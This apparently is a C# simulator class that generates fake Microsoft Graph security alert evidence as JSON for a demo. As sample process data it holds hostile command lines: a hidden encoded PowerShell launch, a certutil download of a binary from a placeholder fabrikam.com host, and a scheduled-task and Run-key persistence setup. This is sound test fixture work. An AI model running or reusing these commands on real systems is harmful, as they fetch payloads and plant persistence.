using System.Text.Json.Nodes;
using IncidentSync.Simulator.Api;
using IncidentSync.Simulator.Dice;

namespace IncidentSync.Demo.Day;

/// <summary>Draws the evidence of one alert, in Graph's members. An alert lies on one machine, which its files and processes
/// name.</summary>
internal sealed class Pieces(Random random, DateTimeOffset at)
{
    private const string Namespace = "#microsoft.graph.security.";
    private const int LongCommandLength = 100_000;

    private readonly int _machine = random.Next(1, Things.Machines);
    private bool _hasPrimary;

    public JsonObject Machine()
    {
        var piece = Of("deviceEvidence", Things.Machine(_hasPrimary ? random.Next(1, Things.Machines) : _machine, at));
        piece["roles"] = new JsonArray(_hasPrimary ? "contextual" : "compromised");
        piece["detailedRoles"] = _hasPrimary ? new JsonArray() : new JsonArray("PrimaryDevice");
        piece["tags"] = _machine % 4 == 0 ? new JsonArray("Test Machine", "Überprüfung") : [];
        _hasPrimary = true;
        return piece;
    }

    public JsonObject File() => OnMachine("fileEvidence", new JsonObject
    {
        ["detectionStatus"] = "prevented",
        ["fileDetails"] = Things.File($"invoice-{random.Next(100, 999)}.{random.Pick(["exe", "js", "docm", "iso"])}",
            @"C:\Users\Public\Downloads"),
    });

    public JsonObject Process() => Process(random.Pick(
    [
        "powershell.exe -nop -w hidden -enc SQBFAFgA",
        "certutil.exe -urlcache -split -f https://files.fabrikam.com/a.bin C:\\ProgramData\\a.bin",
        "schtasks.exe /create /tn \"Contoso | Update\" /tr \"C:\\ProgramData\\a.exe --key=value\" /sc minute",
    ]));

    /// <summary>Longer than any field of a table or a line.</summary>
    public JsonObject LongCommand() =>
        Process($"powershell.exe -enc {string.Concat(Enumerable.Repeat("SQBFAFgAIAAo", LongCommandLength / 12))}");

    public JsonObject User() => Of("userEvidence", new JsonObject { ["userAccount"] = Things.Person(random.Next(1, Things.Persons)) });

    public JsonObject Ip() => Of("ipEvidence", new JsonObject
    {
        ["ipAddress"] = $"{random.Pick(["192.0.2", "198.51.100", "203.0.113"])}.{random.Next(1, 255)}",
        ["countryLetterCode"] = random.Pick(["DE", "SE", "BR", "JP"]),
    });

    public JsonObject Url() =>
        Of("urlEvidence", new JsonObject { ["url"] = $"https://portal-{random.Next(100)}.fabrikam.com/login?next=%2F&user=a|b" });

    public JsonObject RegistryKey() => OnMachine("registryKeyEvidence", new JsonObject
    {
        ["registryHive"] = "HKEY_LOCAL_MACHINE",
        ["registryKey"] = @"SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
    });

    public JsonObject RegistryValue() => OnMachine("registryValueEvidence", new JsonObject
    {
        ["registryHive"] = "HKEY_LOCAL_MACHINE",
        ["registryKey"] = @"SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
        ["registryValueName"] = "Updater",
        ["registryValue"] = $@"C:\ProgramData\a{random.Next(100)}.exe",
        ["registryValueType"] = "REG_SZ",
    });

    public JsonObject Logon() => Of("hostLogonSessionEvidence", new JsonObject
    {
        ["sessionId"] = random.Next(100_000, 999_999).ToString(),
        ["account"] = new JsonObject { ["userAccount"] = Things.Person(random.Next(1, Things.Persons)) },
    });

    public JsonObject Mailbox()
    {
        var person = Things.Person(random.Next(1, Things.Persons));
        var address = person["userPrincipalName"]!.GetValue<string>();
        return Of("mailboxEvidence", new JsonObject
        {
            ["primaryAddress"] = address,
            ["upn"] = address,
            ["displayName"] = person["displayName"]!.GetValue<string>(),
            ["userAccount"] = person,
        });
    }

    public JsonObject Message() => Of("analyzedMessageEvidence", new JsonObject
    {
        ["networkMessageId"] = random.NextGuid().ToString(),
        ["internetMessageId"] = $"<{random.NextGuid():N}@fabrikam.com>",
        ["subject"] = random.Pick(["Your invoice | overdue", "Rechnung = fällig", "請求書", "Re: \r\n\tmeeting"]),
        ["recipientEmailAddress"] = $"user{random.Next(1, Things.Persons):000}@contoso.com",
        ["senderIp"] = $"203.0.113.{random.Next(1, 255)}",
        ["p1Sender"] = new JsonObject { ["emailAddress"] = "billing@fabrikam.com", ["domainName"] = "fabrikam.com" },
        ["p2Sender"] = new JsonObject
        {
            ["emailAddress"] = "billing@fabrikam.com",
            ["displayName"] = "Billing",
            ["domainName"] = "fabrikam.com",
        },
        ["deliveryAction"] = "deliveredAsSpam",
        ["urls"] = new JsonArray($"https://portal-{random.Next(100)}.fabrikam.com/"),
        ["attachmentsCount"] = random.Next(3),
    });

    public JsonObject MailCluster() => Of("mailClusterEvidence", new JsonObject
    {
        ["clusterBy"] = "Subject;P2SenderDomain",
        ["clusterByValue"] = "Your invoice;fabrikam.com",
        ["query"] = "( (Subject:\"Your invoice\") AND (P2SenderDomain:fabrikam.com) )",
        ["emailCount"] = random.Next(2, 400),
        ["networkMessageIds"] = new JsonArray(random.NextGuid().ToString(), random.NextGuid().ToString()),
    });

    public JsonObject OAuthApplication() => Of("oauthApplicationEvidence", new JsonObject
    {
        ["displayName"] = $"Fabrikam Add-in {random.Next(1, 60)}",
        ["appId"] = random.NextGuid().ToString(),
        ["objectId"] = random.NextGuid().ToString(),
        ["publisher"] = "Fabrikam",
    });

    public JsonObject CloudApplication() => Of("cloudApplicationEvidence", new JsonObject
    {
        ["appId"] = random.Next(10_000, 30_000),
        ["displayName"] = "Fabrikam Storage",
        ["saasAppId"] = random.Next(10_000, 30_000),
        ["instanceId"] = 0,
        ["instanceName"] = "contoso",
    });

    public JsonObject SecurityGroup() => Of("securityGroupEvidence", new JsonObject
    {
        ["displayName"] = "Domain Admins",
        ["securityGroupId"] = Hashed.Id("Domain Admins").ToString(),
        ["sid"] = "S-1-5-21-1004336348-1177238915-682003330-512",
        ["distinguishedName"] = "CN=Domain Admins,CN=Users,DC=contoso,DC=com",
    });

    public JsonObject Dns() => Of("dnsEvidence", new JsonObject
    {
        ["domainName"] = $"c{random.Next(100)}.fabrikam.com",
        ["ipAddresses"] = new JsonArray(Ip()),
    });

    public JsonObject AzureResource()
    {
        var name = $"vm-{random.Next(100):00}";
        return Of("azureResourceEvidence", new JsonObject
        {
            ["resourceId"] = $"/subscriptions/{Hashed.Id("subscription")}/resourceGroups/contoso-prod/providers/Microsoft.Compute/"
                + $"virtualMachines/{name}",
            ["resourceName"] = name,
            ["resourceType"] = "Microsoft.Compute/virtualMachines",
        });
    }

    private JsonObject Process(string commandLine) => OnMachine("processEvidence", new JsonObject
    {
        ["processId"] = random.Next(400, 65_000),
        ["parentProcessId"] = random.Next(400, 65_000),
        ["processCommandLine"] = commandLine,
        ["processCreationDateTime"] = Stamp.Format(at.AddSeconds(-random.Next(1, 3600))),
        ["parentProcessCreationDateTime"] = Stamp.Format(at.AddHours(-2)),
        ["detectionStatus"] = "detected",
        ["imageFile"] = Things.File(commandLine[..commandLine.IndexOf(' ')], @"C:\Windows\System32"),
        ["parentProcessImageFile"] = Things.File("explorer.exe", @"C:\Windows"),
        ["userAccount"] = Things.Person(1 + _machine),
    });

    private JsonObject OnMachine(string type, JsonObject members)
    {
        var piece = Of(type, members);
        piece["mdeDeviceId"] = Things.MachineId(_machine);
        return piece;
    }

    private static JsonObject Of(string type, JsonObject members)
    {
        members.Insert(0, "@odata.type", Namespace + type);
        return members;
    }
}
